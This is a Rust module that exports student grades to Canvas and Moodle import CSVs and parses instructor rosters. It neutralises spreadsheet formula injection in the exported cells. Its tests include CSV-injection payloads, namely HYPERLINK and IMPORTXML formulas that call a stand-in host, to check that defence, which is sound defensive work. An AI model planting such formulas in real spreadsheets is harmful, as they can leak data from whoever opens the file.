//! Gradebooks an LMS imports as they are, from results.json: Canvas's
//! gradebook CSV (`Student`, `ID`, `SIS User ID`, `SIS Login ID`,
//! `Section`, then one column per exercise, and a `Points Possible` row)
//! and Moodle's grade import CSV (an identifier column that the import maps
//! to a username, an email address or an ID number, then one column per
//! exercise). A roster maps the class's folders to the LMS's ids, names,
//! emails and sections; students missing from either side are listed.
//!
//! Threat model: names, emails and sections come from the LMS, where a
//! student writes their own, and an instructor may open the file in a
//! spreadsheet before importing it. A cell a spreadsheet would evaluate
//! (OWASP's CSV injection rule: one starting with `=`, `+`, `-`, `@`, a tab
//! or a carriage return) is written with a leading apostrophe, which makes
//! it text; a number stays a number (`-3` is not a formula), so points
//! columns import as points.

use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::path::Path;

use crate::discover::student_id;
use crate::error::{Error, Result};
use crate::record::reports::{csv_field, graded_exercises, points_cell};
use crate::record::results::Results;

/// The LMSs whose gradebook import is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Lms {
    Canvas,
    Moodle,
}

impl Lms {
    /// The file written when no other is named.
    pub fn file_name(self) -> &'static str {
        match self {
            Lms::Canvas => "canvas.csv",
            Lms::Moodle => "moodle.csv",
        }
    }
}

/// The roster's columns, by their header (any case); only `folder` is
/// required.
pub const ROSTER_COLUMNS: [&str; 9] = [
    "folder",
    "name",
    "lms_id",
    "sis_user_id",
    "sis_login_id",
    "email",
    "username",
    "id_number",
    "section",
];

/// One student as the LMS knows them: field name (of [`ROSTER_COLUMNS`])
/// to value.
pub type Person = BTreeMap<&'static str, String>;

/// The roster: each student's id (as grading names them) to who they are
/// in the LMS, in the roster's order.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Roster {
    pub people: Vec<(String, Person)>,
}

impl Roster {
    pub fn load(path: &Path) -> Result<Roster> {
        let text = std::fs::read_to_string(path).map_err(Error::io(path))?;
        Roster::parse(&text)
            .map_err(|err| Error::Usage(format!("--roster {}: {err}", path.display())))
    }

    /// Reads a roster CSV (a header row, then a row per student). A
    /// folder's id is worked out as grading works it out, so the roster
    /// may name either the folder or the id grading printed.
    pub fn parse(text: &str) -> Result<Roster> {
        let rows = csv_rows(text.trim_start_matches('\u{feff}'))?;
        let Some((header, rows)) = rows.split_first() else {
            return Err(Error::Usage(
                "empty: it needs a header row with a folder column".into(),
            ));
        };
        let mut columns: Vec<Option<&'static str>> = Vec::new();
        for cell in header {
            let known = ROSTER_COLUMNS
                .iter()
                .find(|c| c.eq_ignore_ascii_case(cell.trim()))
                .copied();
            if known.is_none() {
                return Err(Error::Usage(format!(
                    "unknown column {:?}; the columns are {}",
                    cell,
                    ROSTER_COLUMNS.join(", ")
                )));
            }
            columns.push(known);
        }
        if !columns.contains(&Some("folder")) {
            return Err(Error::Usage(format!(
                "no folder column; the columns are {}",
                ROSTER_COLUMNS.join(", ")
            )));
        }
        let mut people = Vec::new();
        for (line, row) in rows.iter().enumerate() {
            let person: Person = columns
                .iter()
                .zip(row)
                .filter_map(|(c, v)| Some((c.as_ref().copied()?, v.trim().to_owned())))
                .collect();
            let folder = person.get("folder").cloned().unwrap_or_default();
            if folder.is_empty() {
                return Err(Error::Usage(format!("row {}: no folder", line + 2)));
            }
            if people.iter().any(|(f, _)| *f == folder) {
                return Err(Error::Usage(format!(
                    "row {}: {folder:?} is listed twice",
                    line + 2
                )));
            }
            people.push((folder, person));
        }
        // A row may name the id grading printed for a renamed folder; no
        // folder keeps an id of that shape.
        let folders: Vec<&OsStr> = people
            .iter()
            .filter(|(f, _)| !student_id::is_renamed(f))
            .map(|(f, _)| OsStr::new(f.as_str()))
            .collect();
        let mut ids = student_id::assign(&folders).into_iter();
        let people = people
            .into_iter()
            .map(|(folder, person)| match student_id::is_renamed(&folder) {
                true => (folder, person),
                false => (ids.next().expect("an id per folder").id, person),
            })
            .collect();
        Ok(Roster { people })
    }
}

/// An export: the file's text, and who is missing from either side.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Exported {
    pub csv: String,
    pub unmatched: Vec<String>,
}

/// `grader export`: the gradebook for `lms` from DIR/results.json, written
/// to `to`; the roster's rows and the results' students that do not match
/// are said on stderr.
pub fn command(dir: &Path, lms: Lms, roster: Option<&Path>, to: &Path) -> Result<()> {
    let path = dir.join("results.json");
    eprintln!("grader: exporting {} for {lms:?}", path.display());
    let results = Results::load(&path)?;
    let roster = roster.map(Roster::load).transpose()?;
    let exported = export(&results, lms, roster.as_ref());
    for line in &exported.unmatched {
        eprintln!("grader: {line}");
    }
    crate::atomic_file::write(to, exported.csv.as_bytes()).map_err(Error::io(to))?;
    eprintln!("grader: wrote {}", to.display());
    Ok(())
}

/// The gradebook for `lms`. Without a roster every graded student is a
/// row and their id is their login (Canvas's SIS Login ID, Moodle's
/// Username). With one, its students are the rows, in its order; graded
/// students it lacks are left out and listed, and its students nobody
/// graded get blank cells and are listed.
pub fn export(results: &Results, lms: Lms, roster: Option<&Roster>) -> Exported {
    let exercises = graded_exercises(results);
    let mut unmatched = Vec::new();
    let people: Vec<(String, Person)> = match roster {
        Some(roster) => {
            let listed = |id: &String| roster.people.iter().any(|(r, _)| r == id);
            for id in results.students.keys().filter(|id| !listed(id)) {
                unmatched.push(format!(
                    "{id} was graded but is not in the roster: not exported"
                ));
            }
            for (id, _) in &roster.people {
                if !results.students.contains_key(id) {
                    unmatched.push(format!(
                        "{id} is in the roster but has no submission: blank grades"
                    ));
                }
            }
            roster.people.clone()
        }
        None => results
            .students
            .keys()
            .map(|id| {
                let person = Person::from([
                    ("name", id.clone()),
                    ("sis_login_id", id.clone()),
                    ("username", id.clone()),
                ]);
                (id.clone(), person)
            })
            .collect(),
    };
    // Each identity column's header and the roster field it shows.
    let identity: &[(&str, &str)] = match lms {
        Lms::Canvas => &[
            ("Student", "name"),
            ("ID", "lms_id"),
            ("SIS User ID", "sis_user_id"),
            ("SIS Login ID", "sis_login_id"),
            ("Section", "section"),
        ],
        Lms::Moodle => &[
            ("Full name", "name"),
            ("Email address", "email"),
            ("ID number", "id_number"),
            ("Username", "username"),
        ],
    };
    let mut csv = String::new();
    let header: Vec<String> = identity
        .iter()
        .map(|(h, _)| (*h).to_owned())
        .chain(exercises.iter().map(|e| csv_field(e)))
        .collect();
    csv.push_str(&(header.join(",") + "\n"));
    if lms == Lms::Canvas {
        // Canvas sets each new assignment's points from this row.
        let possible = exercises.iter().map(|e| {
            results
                .students
                .values()
                .find_map(|s| s.exercises.get(*e))
                .map_or(String::new(), |x| x.max_points.to_string())
        });
        let row: Vec<String> = std::iter::once("Points Possible".to_owned())
            .chain(std::iter::repeat_n(String::new(), identity.len() - 1))
            .chain(possible)
            .collect();
        csv.push_str(&(row.join(",") + "\n"));
    }
    for (id, person) in &people {
        let student = results.students.get(id);
        for (header, field) in identity.iter().filter(|(_, f)| !SHOWN_ONLY.contains(f)) {
            let value = person.get(field).map_or("", String::as_str);
            if inert(value) != value {
                unmatched.push(format!(
                    "{id}: the {header} {value:?} starts like a spreadsheet formula and was \
                     written with a leading apostrophe; the LMS may not match it: check this \
                     student's grades by hand"
                ));
            }
        }
        let row: Vec<String> = identity
            .iter()
            .map(|(_, field)| csv_field(&inert(person.get(field).map_or("", String::as_str))))
            .chain(
                exercises
                    .iter()
                    .map(|e| student.map(|s| points_cell(s, e)).unwrap_or_default()),
            )
            .collect();
        csv.push_str(&(row.join(",") + "\n"));
    }
    Exported { csv, unmatched }
}

/// The roster fields an LMS only shows; it matches students by the others
/// (ids, logins, emails), and a change to one of those loses the row.
const SHOWN_ONLY: [&str; 2] = ["name", "section"];

/// `text` as a cell no spreadsheet evaluates: a leading apostrophe before
/// what would start a formula, a number left as it is.
pub fn inert(text: &str) -> std::borrow::Cow<'_, str> {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula && !is_plain_number(text) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// An optional minus, digits, and optionally a point and more digits: what
/// a spreadsheet reads as a number and nothing else.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && all_digits(fraction)
}

/// A CSV text's rows: comma-separated, fields in double quotes may hold
/// commas, quotes (doubled) and line breaks; CRLF or LF line ends; blank
/// lines skipped.
fn csv_rows(text: &str) -> Result<Vec<Vec<String>>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                if row.iter().any(|f| !f.is_empty()) {
                    rows.push(std::mem::take(&mut row));
                }
                row.clear();
            }
            (false, c) => field.push(c),
        }
    }
    if quoted {
        return Err(Error::Usage("a quoted field is never closed".into()));
    }
    row.push(field);
    if row.iter().any(|f| !f.is_empty()) {
        rows.push(row);
    }
    Ok(rows)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::results::{Exercise, Student};

    fn exercise(points: u32, max_points: u32, absent: bool) -> Exercise {
        Exercise {
            refused: vec![],
            build_errors: None,
            refused_binary: None,
            ptx_missing: vec![],
            runs: vec![],
            points,
            max_points,
            sanitizer: vec![],
            checks: vec![],
            inputs: None,
            absent: absent.then(|| "no dot-sm folder with a src/ was found".into()),
            integrity: vec![],
            kernel_lost: None,
        }
    }

    fn results() -> Results {
        let mut results = Results::new(1);
        let student = |dot: Exercise, vec: Exercise| Student {
            problems: vec![],
            exercises: BTreeMap::from([("dot-sm".into(), dot), ("vecadd-anyN".into(), vec)]),
        };
        results.students.insert(
            "ann".into(),
            student(exercise(7, 7, false), exercise(3, 5, false)),
        );
        results.students.insert(
            "bo".into(),
            student(exercise(0, 7, true), exercise(5, 5, false)),
        );
        results.students.insert(
            "zo_-1b2e0f3c".into(),
            student(exercise(1, 7, false), exercise(0, 5, true)),
        );
        results
    }

    const ROSTER: &str = "\u{feff}Folder,Name,LMS_ID,SIS_User_ID,SIS_Login_ID,Email,Username,ID_Number,Section\r\n\
        ann,\"Lovelace, Ada\",101,S1,ada,ada@uni.edu,ada,S1,CUDA-01\r\n\
        cy,Cy Young,103,S3,cy,cy@uni.edu,cy,S3,CUDA-02\r\n\
        bo,Bo Diddley,102,S2,bo,bo@uni.edu,bo,S2,CUDA-01\r\n";

    #[test]
    fn canvas_without_a_roster_takes_ids_as_logins() {
        insta::assert_snapshot!(export(&results(), Lms::Canvas, None).csv);
    }

    #[test]
    fn canvas_with_a_roster_lists_who_is_missing_on_either_side() {
        let roster = Roster::parse(ROSTER).unwrap();
        let exported = export(&results(), Lms::Canvas, Some(&roster));
        insta::assert_snapshot!(exported.csv);
        assert_eq!(
            exported.unmatched,
            [
                "zo_-1b2e0f3c was graded but is not in the roster: not exported",
                "cy is in the roster but has no submission: blank grades",
            ]
        );
    }

    #[test]
    fn moodle_with_a_roster() {
        let roster = Roster::parse(ROSTER).unwrap();
        insta::assert_snapshot!(export(&results(), Lms::Moodle, Some(&roster)).csv);
    }

    #[test]
    fn a_roster_may_name_an_awkward_folder_by_its_name() {
        let roster = Roster::parse("folder,email\nzo\u{eb},z@uni.edu\n").unwrap();
        let id = &roster.people[0].0;
        assert!(id.starts_with("zo_-"), "{id}");
        let ids = student_id::assign(&[OsStr::new("zo\u{eb}")]);
        assert_eq!(*id, ids[0].id);
    }

    #[test]
    fn a_roster_may_name_a_student_by_the_id_grading_printed() {
        let id = student_id::assign(&[OsStr::new("zo\u{eb}")])[0].id.clone();
        let roster =
            Roster::parse(&format!("folder,email\n{id},z@uni.edu\nann,a@uni.edu\n")).unwrap();
        assert_eq!(roster.people[0].0, id);
        assert_eq!(roster.people[1].0, "ann");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers() {
        for formula in [
            "=HYPERLINK(\"http://x/?\"&A1,\"grades\")",
            "+1+1",
            "-2+3",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "-",
            "-1e5",
            "--1",
            "-1.",
        ] {
            assert_eq!(inert(formula), format!("'{formula}"), "{formula:?}");
        }
        for kept in ["Ada", "-3", "-3.25", "12", "0.5", "a=b", " =1", ""] {
            assert_eq!(inert(kept), kept, "{kept:?}");
        }
        let roster = Roster::parse(
            "folder,name,sis_login_id,section\n\
             ann,\"=IMPORTXML(\"\"http://x\"\",\"\"//a\"\")\",@ann,-\n",
        )
        .unwrap();
        let exported = export(&results(), Lms::Canvas, Some(&roster));
        let rows = csv_rows(&exported.csv).unwrap();
        assert_eq!(
            rows[2][..5],
            ["'=IMPORTXML(\"http://x\",\"//a\")", "", "", "'@ann", "'-"]
        );
        // The points import as points.
        assert_eq!(rows[2][5..], ["3", "7"]);
        assert!(
            exported
                .unmatched
                .iter()
                .any(|u| u.contains("SIS Login ID \"@ann\"")),
            "{:?}",
            exported.unmatched
        );
    }

    #[test]
    fn bad_rosters_say_what_is_wrong() {
        assert!(
            Roster::parse("")
                .unwrap_err()
                .to_string()
                .contains("header")
        );
        let err = Roster::parse("student,email\n").unwrap_err().to_string();
        assert!(
            err.contains("unknown column \"student\"") && err.contains("folder"),
            "{err}"
        );
        assert!(
            Roster::parse("email\nx@y\n")
                .unwrap_err()
                .to_string()
                .contains("no folder column")
        );
        assert!(
            Roster::parse("folder\n\"open\n")
                .unwrap_err()
                .to_string()
                .contains("never closed")
        );
        assert!(
            Roster::parse("folder,email\n,x@y\n")
                .unwrap_err()
                .to_string()
                .contains("row 2")
        );
        let twice = Roster::parse("folder\nann\nbo\nann\n")
            .unwrap_err()
            .to_string();
        assert!(twice.contains("row 4: \"ann\" is listed twice"), "{twice}");
    }
}
